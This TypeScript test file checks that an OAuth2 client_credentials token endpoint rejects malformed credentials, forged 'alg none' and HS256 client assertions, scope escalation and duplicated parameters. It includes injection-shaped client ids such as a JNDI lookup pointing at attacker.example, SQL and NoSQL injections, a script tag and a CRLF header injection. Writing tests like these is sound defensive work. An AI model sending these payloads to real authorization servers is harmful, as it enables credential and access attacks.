import { expect } from 'vitest';
import { assertionForm, clientAssertion, clientKeyPair } from '../support/client-assertions.js';
import { basicAuthorization } from '../support/stack-clients.js';
import { gatewayAnswer, gatewayAnswerOrClose, oauthError, type AttackCase, type Control } from './support/attack-case.js';
import { OTHER_RESOURCE, READ, WRITE, type AttackFixtures, type Credentials } from './support/attack-fixtures.js';
import type { RawRequest } from './support/raw-http.js';

const FORM = 'application/x-www-form-urlencoded';
const GRANT = 'grant_type=client_credentials';
const MISSING_AUTH_TOKEN = 'Missing Authentication Token';

interface TokenRequest {
  authorization?: string | string[];
  body?: string | Buffer;
  /** null: no Content-Type header at all. */
  contentType?: string | string[] | null;
  method?: string;
  query?: string;
}

function tokenRequest({ authorization, body = GRANT, contentType = FORM, method = 'POST', query }: TokenRequest): RawRequest {
  return {
    method,
    path: `/oauth2/token${query === undefined ? '' : `?${query}`}`,
    headers: {
      ...(contentType !== null && { 'Content-Type': contentType }),
      ...(authorization !== undefined && { Authorization: authorization }),
    },
    body,
  };
}

/** Basic credentials exactly as given: no RFC 6749 §2.3.1 form-encoding, so the test controls every byte. */
const basicRaw = (userPass: string | Buffer): string => `Basic ${Buffer.from(userPass).toString('base64')}`;
const basic = (client: Credentials): string => basicAuthorization(client.clientId, client.clientSecret);
/** Every character as %XX, which a form decoder must turn back into the same string. */
const percentEncodeAll = (text: string): string => [...Buffer.from(text, 'utf8')].map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('');
const BASE64_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
/** The same bytes spelt non-canonically: a spare bit of the last quantum set (RFC 4648 §3.5). Needs padding. */
const withSpareBit = (basicHeader: string): string =>
  basicHeader.replace(/([A-Za-z0-9+/])(=+)$/, (_, last: string, padding: string) => `${BASE64_ALPHABET[BASE64_ALPHABET.indexOf(last) + 1] ?? ''}${padding}`);
const form = (parameters: Record<string, string>): string => new URLSearchParams(parameters).toString();
const guess = (label: string): string => `attacker-guess-${label}-0000`;

const malformed = oauthError(400, 'invalid_request');
const refusedBasic = oauthError(401, 'invalid_client', 'Basic');
const refusedPost = oauthError(401, 'invalid_client');
const unsupportedGrant = oauthError(400, 'unsupported_grant_type');
const invalidScope = oauthError(400, 'invalid_scope');
const invalidTarget = oauthError(400, 'invalid_target');

/** As reader, asking for `scope`. */
const readerAsking = (scope: string) => (fx: AttackFixtures) => tokenRequest({ authorization: basic(fx.reader), body: form({ grant_type: 'client_credentials', scope }) });
/** As admin, with extra body parameters. */
const adminWith = (body: string) => (fx: AttackFixtures) => tokenRequest({ authorization: basic(fx.admin), body });

/** Basic credentials of the reader's id and secret, glued with `glue` instead of a plain id:secret. */
const readerBasic = (build: (id: string, secret: string) => string | Buffer) => (fx: AttackFixtures) =>
  tokenRequest({ authorization: basicRaw(build(fx.reader.clientId, fx.reader.clientSecret)) });

/** Client ids shaped like injections into DynamoDB, SQL, NoSQL, templates, JNDI, HTML, prototypes. */
const INJECTION_IDS: [string, string][] = [
  ['a DynamoDB attribute-value client id {"S":"x"}', '{"S":"demo-client"}'],
  ['a NoSQL operator client id $ne', '{"$ne":null}'],
  ['a lone dollar client id', '$'],
  ['a double-quote client id', '"'],
  ["a SQL injection client id ' OR 1=1 --", "' OR 1=1 --"],
  ['a JNDI lookup client id', '${jndi:ldap://attacker.example/a}'],
  ['an HTML client id', '<script>alert(1)</script>'],
  ['a __proto__ client id', '__proto__'],
  ['a CRLF header-injection client id', 'demo-client\r\nX-Injected: 1'],
];

/** The attacker's own key pair: it can sign assertions, never with a key a client registered. */
const attackerKey = clientKeyPair('RS256');
/** A client_credentials body with an RFC 7523 assertion for `clientId`, signed by the attacker. */
const assertionFor = (clientId: string, fx: AttackFixtures, header: Record<string, unknown> = {}, extra: Record<string, string> = {}): string =>
  assertionForm(clientAssertion(attackerKey, { clientId, audience: fx.stack.issuer, header }), extra).toString();

export const tokenEndpointAttacks: AttackCase[] = [
  // --- Client assertions (RFC 7523 §2.2): one method per request, never none or HMAC, never a secret client.
  { attack: 'a client assertion beside Basic credentials', request: (fx) => tokenRequest({ authorization: basic(fx.reader), body: assertionFor(fx.reader.clientId, fx) }), expect: malformed },
  { attack: 'a client assertion beside a client_secret', request: (fx) => tokenRequest({ body: assertionFor(fx.reader.clientId, fx, {}, { client_id: fx.reader.clientId, client_secret: fx.reader.clientSecret }) }), expect: malformed },
  { attack: 'a SAML client assertion type (RFC 7522)', request: (fx) => tokenRequest({ body: assertionFor(fx.reader.clientId, fx).replace('jwt-bearer', 'saml2-bearer') }), expect: malformed },
  { attack: 'a client assertion for a client that authenticates with a secret', request: (fx) => tokenRequest({ body: assertionFor(fx.reader.clientId, fx) }), expect: refusedPost },
  { attack: 'an unsigned (alg none) client assertion', request: (fx) => tokenRequest({ body: assertionFor(fx.reader.clientId, fx, { alg: 'none' }) }), expect: refusedPost },
  { attack: 'an HS256 client assertion keyed with a public key', request: (fx) => tokenRequest({ body: assertionFor(fx.reader.clientId, fx, { alg: 'HS256' }) }), expect: refusedPost },
  { attack: 'a client assertion for an unknown client', request: (fx) => tokenRequest({ body: assertionFor(`unknown-${fx.reader.clientId}`, fx) }), expect: refusedPost },
  { attack: 'a client assertion naming a disabled client', request: (fx) => tokenRequest({ body: assertionFor(fx.disabled.clientId, fx) }), expect: refusedPost },

  // --- Malformed Basic credentials (RFC 7617, RFC 6749 §2.3.1): refused before any lookup.
  { attack: 'Basic credentials without a colon', request: readerBasic((id, secret) => `${id}${secret}`), expect: malformed },
  { attack: 'Basic credentials that are not base64', request: () => tokenRequest({ authorization: 'Basic !!!not*base64!!!' }), expect: malformed },
  { attack: 'Basic credentials with the base64 padding stripped', request: () => tokenRequest({ authorization: basicRaw('demo-client:x').replace(/=+$/, '') }), expect: malformed },
  { attack: 'genuine Basic credentials in base64 with a spare bit set', request: (fx) => tokenRequest({ authorization: withSpareBit(basicRaw(`${fx.reader.clientId}:${fx.reader.clientSecret}`)) }), expect: malformed },
  { attack: 'Basic credentials in the base64url alphabet', request: () => tokenRequest({ authorization: basicRaw('??>:secret-with-url-alphabet?>').replaceAll('+', '-').replaceAll('/', '_') }), expect: malformed },
  { attack: 'Basic credentials with an empty client id', request: readerBasic((_, secret) => `:${secret}`), expect: malformed },
  { attack: 'Basic credentials with an empty secret', request: readerBasic((id) => `${id}:`), expect: malformed },
  { attack: 'Basic scheme with no credentials', request: () => tokenRequest({ authorization: 'Basic' }), expect: malformed },
  { attack: 'Basic credentials split by a space', request: (fx) => tokenRequest({ authorization: basic(fx.reader).replace(/^(Basic .{8})/, '$1 ') }), expect: malformed },
  { attack: 'Basic credentials that are not UTF-8', request: (fx) => tokenRequest({ authorization: basicRaw(Buffer.concat([Buffer.from([0xe9, 0xff]), Buffer.from(`:${fx.reader.clientSecret}`)])) }), expect: malformed },
  { attack: 'a non-ASCII letter in the scheme name', request: (fx) => tokenRequest({ authorization: basic(fx.reader).replace('Basic', 'B\xe4sic') }), expect: malformed },
  { attack: 'raw Latin-1 bytes after the credentials', request: (fx) => tokenRequest({ authorization: `${basic(fx.reader)}\xe9\xe9` }), expect: malformed },
  { attack: 'a percent-encoded colon as the only separator (%3A)', request: readerBasic((id, secret) => `${id}%3A${secret}`), expect: malformed },
  { attack: 'a truncated percent-escape in the secret', request: readerBasic((id, secret) => `${id}:${secret}%`), expect: malformed },
  { attack: 'a percent-escape with non-hex digits', request: readerBasic((id, secret) => `${id}%zz:${secret}`), expect: malformed },
  { attack: 'an overlong UTF-8 encoding of "/" in the client id (%C0%AF)', request: readerBasic((id, secret) => `${id}%C0%AF:${secret}`), expect: malformed },
  { attack: 'an encoded UTF-16 surrogate in the client id (%ED%A0%80)', request: readerBasic((id, secret) => `${id}%ED%A0%80:${secret}`), expect: malformed },
  { attack: 'two Authorization headers', request: (fx) => tokenRequest({ authorization: [basic(fx.reader), basic(fx.admin)] }), expect: malformed },

  // --- Well-formed credentials that are not a registered client and its live secret: one uniform 401.
  { attack: 'a %3A inside the client id that decodes to another id', request: readerBasic((id, secret) => `${id}%3Aadmin:${secret}`), expect: refusedBasic },
  { attack: 'a %00 appended to the client id', request: readerBasic((id, secret) => `${id}%00:${secret}`), expect: refusedBasic },
  { attack: 'a %00 appended to the secret', request: readerBasic((id, secret) => `${id}:${secret}%00`), expect: refusedBasic },
  { attack: 'a double-percent-encoded client id', request: readerBasic((id, secret) => `${percentEncodeAll(percentEncodeAll(id))}:${secret}`), expect: refusedBasic },
  { attack: 'a "+" (form-encoded space) appended to the client id', request: readerBasic((id, secret) => `${id}+:${secret}`), expect: refusedBasic },
  { attack: 'the secret with its letter case swapped', request: (fx) => tokenRequest({ authorization: basicAuthorization(fx.reader.clientId, swapCase(fx.reader.clientSecret)) }), expect: refusedBasic },
  { attack: "another client's secret", request: (fx) => tokenRequest({ authorization: basicAuthorization(fx.reader.clientId, fx.admin.clientSecret) }), expect: refusedBasic },
  { attack: 'an unknown client id', request: (fx) => tokenRequest({ authorization: basicAuthorization(`unknown-${fx.reader.clientId}`, fx.reader.clientSecret) }), expect: refusedBasic },
  { attack: 'a wrong secret', request: (fx) => tokenRequest({ authorization: basicAuthorization(fx.reader.clientId, guess('wrong')) }), expect: refusedBasic },
  { attack: 'a disabled client with its right secret', request: (fx) => tokenRequest({ authorization: basic(fx.disabled) }), expect: refusedBasic },
  { attack: 'an expired secret', request: (fx) => tokenRequest({ authorization: basic(fx.expired) }), expect: refusedBasic },
  { attack: 'a secret removed from the client', request: (fx) => tokenRequest({ authorization: basic(fx.removed) }), expect: refusedBasic },
  { attack: 'the secret of a deleted client', request: (fx) => tokenRequest({ authorization: basic(fx.deleted) }), expect: refusedBasic },
  { attack: 'a disabled client over client_secret_post', request: (fx) => tokenRequest({ body: form({ grant_type: 'client_credentials', client_id: fx.disabled.clientId, client_secret: fx.disabled.clientSecret }) }), expect: refusedPost },
  ...INJECTION_IDS.map(([attack, clientId]): AttackCase => ({
    attack: `${attack} (Basic)`,
    request: () => tokenRequest({ authorization: basicAuthorization(clientId, guess('injection')) }),
    expect: refusedBasic,
  })),
  { attack: 'a DynamoDB attribute-value client id over client_secret_post', request: () => tokenRequest({ body: form({ grant_type: 'client_credentials', client_id: '{"S":"demo-client"}', client_secret: guess('post') }) }), expect: refusedPost },
  { attack: 'a 10 KB client id', request: () => tokenRequest({ authorization: basicAuthorization('A'.repeat(10_240), guess('long-id')) }), expect: refusedBasic },

  // --- Where the credentials are (RFC 6749 §2.3, §2.3.1, §3.2).
  { attack: 'no client authentication at all', request: () => tokenRequest({}), expect: refusedPost },
  { attack: 'a client_id without a secret', request: (fx) => tokenRequest({ body: form({ grant_type: 'client_credentials', client_id: fx.reader.clientId }) }), expect: refusedPost },
  { attack: 'a Bearer token presented at the token endpoint', request: (fx) => tokenRequest({ authorization: `Bearer ${fx.tokens[READ]}` }), expect: refusedBasic },
  { attack: 'a Digest scheme at the token endpoint', request: () => tokenRequest({ authorization: 'Digest username="demo-client", realm="oauth2/token"' }), expect: refusedBasic },
  { attack: 'credentials in both the Authorization header and the body', request: (fx) => tokenRequest({ authorization: basic(fx.reader), body: form({ grant_type: 'client_credentials', client_id: fx.reader.clientId, client_secret: fx.reader.clientSecret }) }), expect: malformed },
  { attack: 'the client secret in the query string', request: (fx) => tokenRequest({ query: form({ client_id: fx.reader.clientId, client_secret: fx.reader.clientSecret }) }), expect: malformed },
  { attack: 'a parameter in the query string beside Basic credentials', request: (fx) => tokenRequest({ authorization: basic(fx.reader), query: form({ scope: WRITE }) }), expect: malformed },
  { attack: 'a body client_id naming another client than Basic', request: (fx) => tokenRequest({ authorization: basic(fx.reader), body: form({ grant_type: 'client_credentials', client_id: fx.admin.clientId }) }), expect: malformed },
  { attack: 'a client_secret without a client_id', request: (fx) => tokenRequest({ body: form({ grant_type: 'client_credentials', client_secret: fx.reader.clientSecret }) }), expect: malformed },

  // --- Parameters (RFC 6749 §3.2: no repeats; §4.4.2: grant_type).
  { attack: 'grant_type sent twice', request: adminWith(`${GRANT}&${GRANT}`), expect: malformed },
  { attack: 'grant_type in PHP array syntax (grant_type[]=)', request: adminWith('grant_type[]=client_credentials'), expect: malformed },
  { attack: 'scope sent twice to widen the grant', request: adminWith(`${GRANT}&scope=${READ}&scope=${WRITE}`), expect: malformed },
  { attack: 'client_id sent twice', request: (fx) => tokenRequest({ body: `${GRANT}&${form({ client_id: fx.reader.clientId })}&${form({ client_id: fx.admin.clientId, client_secret: fx.reader.clientSecret })}` }), expect: malformed },
  { attack: 'an unknown parameter sent twice', request: adminWith(`${GRANT}&x=1&x=2`), expect: malformed },
  { attack: 'no grant_type', request: adminWith(form({ scope: READ })), expect: malformed },
  { attack: 'an empty grant_type', request: adminWith('grant_type='), expect: malformed },
  { attack: 'grant_type=password', request: adminWith(form({ grant_type: 'password', username: 'admin', password: 'admin' })), expect: unsupportedGrant },
  { attack: 'grant_type=authorization_code', request: adminWith(form({ grant_type: 'authorization_code', code: 'stolen-code' })), expect: unsupportedGrant },
  { attack: 'grant_type=refresh_token', request: adminWith(form({ grant_type: 'refresh_token', refresh_token: 'stolen-refresh-token' })), expect: unsupportedGrant },
  { attack: 'the JWT bearer grant type (RFC 7523)', request: adminWith(form({ grant_type: 'urn:ietf:params:oauth:grant-type:jwt-bearer', assertion: 'x.y.z' })), expect: unsupportedGrant },
  { attack: 'grant_type in upper case', request: adminWith('grant_type=CLIENT_CREDENTIALS'), expect: unsupportedGrant },
  { attack: 'grant_type with a trailing space', request: adminWith('grant_type=client_credentials+'), expect: unsupportedGrant },
  { attack: 'grant_type with a trailing NUL', request: adminWith('grant_type=client_credentials%00'), expect: unsupportedGrant },
  { attack: 'a 3 KB grant_type', request: adminWith(form({ grant_type: 'client_credentials'.repeat(170) })), expect: unsupportedGrant },

  // --- Scope (RFC 6749 §3.3): escalation and syntax abuse.
  { attack: 'scope escalation to products:write', request: readerAsking(WRITE), expect: invalidScope },
  { attack: 'scope escalation hidden after an allowed scope', request: readerAsking(`${READ} products:delete`), expect: invalidScope },
  { attack: 'a wildcard scope products:*', request: readerAsking('products:*'), expect: invalidScope },
  { attack: 'a scope in double quotes', request: readerAsking(`"${READ}"`), expect: invalidScope },
  { attack: 'a backslash in the scope', request: readerAsking('products:read\\'), expect: invalidScope },
  { attack: 'a newline smuggling a second scope', request: readerAsking(`${READ}\n${WRITE}`), expect: invalidScope },
  { attack: 'a tab between scopes', request: readerAsking(`${READ}\t${READ}`), expect: invalidScope },
  { attack: 'a NUL inside the scope', request: readerAsking(`${READ}\u0000`), expect: invalidScope },
  { attack: 'two spaces between scopes', request: readerAsking(`${READ}  ${READ}`), expect: invalidScope },
  { attack: 'a leading space in the scope', request: readerAsking(` ${READ}`), expect: invalidScope },
  { attack: 'a non-ASCII scope', request: readerAsking('prodücts:read'), expect: invalidScope },
  { attack: 'a 3 KB scope of well-formed tokens', request: readerAsking(Array.from({ length: 600 }, (_, i) => `x${i}`).join(' ')), expect: invalidScope },
  { attack: 'a 10 KB scope', request: readerAsking('a'.repeat(10_240)), expect: malformed },

  // --- Resource indicators (RFC 8707 §2).
  { attack: 'a resource the client may not have tokens for', request: adminWith(form({ grant_type: 'client_credentials', resource: 'https://billing.example.com/' })), expect: invalidTarget },
  { attack: 'a resource with a fragment', request: (fx) => adminWith(form({ grant_type: 'client_credentials', resource: `${fx.stack.audience}#admin` }))(fx), expect: invalidTarget },
  { attack: 'a relative resource', request: adminWith(form({ grant_type: 'client_credentials', resource: '/products' })), expect: invalidTarget },
  { attack: 'a javascript: resource', request: adminWith(form({ grant_type: 'client_credentials', resource: 'javascript:alert(1)' })), expect: invalidTarget },
  { attack: 'an allowed resource next to one the client may not have', request: (fx) => adminWith(`${GRANT}&${form({ resource: fx.stack.audience })}&${form({ resource: 'https://billing.example.com/' })}`)(fx), expect: invalidTarget },

  // --- Body and media type (RFC 6749 §3.2, Appendix B).
  { attack: 'no Content-Type', request: (fx) => tokenRequest({ authorization: basic(fx.reader), contentType: null }), expect: malformed },
  { attack: 'a text/plain body', request: (fx) => tokenRequest({ authorization: basic(fx.reader), contentType: 'text/plain' }), expect: malformed },
  { attack: 'a JSON body', request: (fx) => tokenRequest({ authorization: basic(fx.reader), contentType: 'application/json', body: '{"grant_type":"client_credentials"}' }), expect: malformed },
  { attack: 'a JSON body labelled as a form', request: (fx) => tokenRequest({ authorization: basic(fx.reader), body: '{"grant_type":"client_credentials"}' }), expect: malformed },
  { attack: 'a multipart body', request: (fx) => tokenRequest({ authorization: basic(fx.reader), contentType: 'multipart/form-data; boundary=x', body: '--x\r\nContent-Disposition: form-data; name="grant_type"\r\n\r\nclient_credentials\r\n--x--\r\n' }), expect: malformed },
  { attack: 'two Content-Type headers', request: (fx) => tokenRequest({ authorization: basic(fx.reader), contentType: [FORM, 'application/json'] }), expect: malformed },
  { attack: 'a 5 KB form body', request: adminWith(`${GRANT}&pad=${'x'.repeat(5_000)}`), expect: malformed },
  { attack: 'a 1 MB form body', request: adminWith(`${GRANT}&pad=${'x'.repeat(1024 * 1024)}`), expect: malformed },
  { attack: 'an 11 MB body, beyond the API Gateway payload quota', request: adminWith(`${GRANT}&pad=${'x'.repeat(11 * 1024 * 1024)}`), expect: gatewayAnswerOrClose(413, 'Request Too Long') },
  { attack: 'a percent-escape that is not UTF-8 in the body', request: adminWith(`${GRANT}&scope=%FF`), expect: malformed },
  { attack: 'a byte-order mark before the form', request: adminWith(`\uFEFF${GRANT}`), expect: malformed },

  // --- Methods API Gateway does not route to the token endpoint.
  ...['GET', 'PUT', 'DELETE', 'PATCH'].map((method): AttackCase => ({
    attack: `${method} on /oauth2/token`,
    request: (fx) => tokenRequest({ method, authorization: basic(fx.reader) }),
    expect: gatewayAnswer(403, MISSING_AUTH_TOKEN),
  })),
  { attack: 'GET on /oauth2/token with the credentials in the query string', request: (fx) => tokenRequest({ method: 'GET', body: '', query: form({ grant_type: 'client_credentials', client_id: fx.reader.clientId, client_secret: fx.reader.clientSecret }) }), expect: gatewayAnswer(403, MISSING_AUTH_TOKEN) },
];

const issuedScope = (scope: string) => (response: { json: unknown }) => {
  expect(response.json).toMatchObject({ token_type: 'Bearer', scope });
};

export const tokenEndpointControls: Control[] = [
  { name: 'a registered client with its live secret (client_secret_basic)', request: (fx) => tokenRequest({ authorization: basic(fx.reader) }), status: 200, verify: issuedScope(READ) },
  { name: 'the same credentials over client_secret_post', request: (fx) => tokenRequest({ body: form({ grant_type: 'client_credentials', client_id: fx.reader.clientId, client_secret: fx.reader.clientSecret }) }), status: 200, verify: issuedScope(READ) },
  { name: 'the scheme name in lower case (RFC 9110 §11.1)', request: (fx) => tokenRequest({ authorization: basic(fx.reader).replace('Basic', 'basic') }), status: 200 },
  { name: 'several spaces after the scheme (RFC 9110 §11.4: 1*SP)', request: (fx) => tokenRequest({ authorization: basic(fx.reader).replace('Basic ', 'Basic   ') }), status: 200 },
  { name: 'a client id sent fully percent-encoded (RFC 6749 §2.3.1)', request: readerBasic((id, secret) => `${percentEncodeAll(id)}:${secret}`), status: 200 },
  { name: 'an allowed resource (RFC 8707)', request: adminWith(form({ grant_type: 'client_credentials', resource: OTHER_RESOURCE })), status: 200 },
  { name: 'two allowed resources at once (RFC 8707 §2)', request: (fx) => adminWith(`${GRANT}&${form({ resource: fx.stack.audience })}&${form({ resource: OTHER_RESOURCE })}`)(fx), status: 200 },
  { name: 'scope[] (PHP array syntax) is an unknown parameter and widens nothing', request: (fx) => tokenRequest({ authorization: basic(fx.reader), body: `${GRANT}&scope[]=${WRITE}` }), status: 200, verify: issuedScope(READ) },
];

function swapCase(text: string): string {
  return [...text].map((char) => (char === char.toUpperCase() ? char.toLowerCase() : char.toUpperCase())).join('');
}
